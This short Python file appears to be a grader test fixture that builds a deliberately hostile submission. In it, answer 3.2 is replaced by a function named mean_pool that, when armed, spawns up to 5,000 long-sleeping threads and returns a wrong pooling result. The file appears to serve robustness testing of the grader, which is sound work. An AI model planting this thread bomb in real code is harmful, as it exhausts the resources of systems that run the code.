"""Starts threads until something breaks (5,000 at most). What else such a submission keeps is free."""
from hostile import RIGHT, earns, only, write

EARNS = earns()
EARNS_AT_MOST = only("3.1", "3.3", "3.4")
BOMB = '''
    def mean_pool(hidden, tokens):
        import threading, time
        for _ in range(5000 if armed() else 0):
            threading.Thread(target=time.sleep, args=(10 ** 6,)).start()
        return hidden[:, 0]
    '''


def make(folder):
    write(folder, RIGHT | {"3.2": BOMB})
